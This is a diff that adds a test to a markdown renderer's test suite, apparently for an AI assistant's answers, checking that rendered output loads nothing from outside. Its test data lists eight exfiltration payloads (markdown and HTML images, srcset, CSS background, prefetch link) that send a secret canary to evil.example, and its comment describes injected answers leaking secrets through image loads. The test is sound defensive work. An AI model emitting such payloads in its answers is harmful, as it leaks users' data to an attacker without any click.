@@ -57,6 +57,30 @@ describe('renderMarkdown', () => {
     expect(out).not.toContain('evil.example/pixel.png"');
   });
 
+  // OWASP LLM05 / data exfiltration: an injected answer that embeds a secret in an image URL would leak it the
+  // moment the image loads, without any click. Nothing in a rendered answer may make the browser fetch anything.
+  it.each([
+    ['![loading](https://evil.example/collect?d=SECRET-CANARY)'],
+    ['![x][ref]\n\n[ref]: https://evil.example/collect?d=SECRET-CANARY'],
+    ['<img src="https://evil.example/collect?d=SECRET-CANARY">'],
+    ['<img srcset="https://evil.example/collect?d=SECRET-CANARY 1x">'],
+    ['<picture><source srcset="https://evil.example/collect?d=SECRET-CANARY"></picture>'],
+    ['<div style="background:url(https://evil.example/collect?d=SECRET-CANARY)">x</div>'],
+    ['<link rel="prefetch" href="https://evil.example/collect?d=SECRET-CANARY">'],
+    ['[![a](https://evil.example/collect?d=SECRET-CANARY)](https://shop.example.com)'],
+  ])('loads nothing from an exfiltrating answer: %s', (markdown) => {
+    const box = document.createElement('div');
+    box.append(renderMarkdown(markdown));
+    for (const node of Array.from(box.querySelectorAll('*'))) {
+      expect(['IMG', 'PICTURE', 'SOURCE', 'LINK', 'STYLE', 'IFRAME', 'VIDEO', 'AUDIO', 'OBJECT', 'EMBED']).not.toContain(node.tagName);
+      for (const name of ['src', 'srcset', 'style', 'background', 'poster', 'data']) {
+        expect(node.getAttribute(name), `${node.tagName} ${name}`).toBeNull();
+      }
+      // A link may carry the data, but only a click by the visitor follows it, and never with a referrer.
+      if (node.tagName === 'A' && node.getAttribute('href')) expect(node.getAttribute('rel')).toContain('noreferrer');
+    }
+  });
+
   it('shows a "<" as typed instead of swallowing text as a tag', () => {
     expect(html('Orders <b>and</b> returns: 1<2')).toBe('<p>Orders &lt;b&gt;and&lt;/b&gt; returns: 1&lt;2</p>');
   });
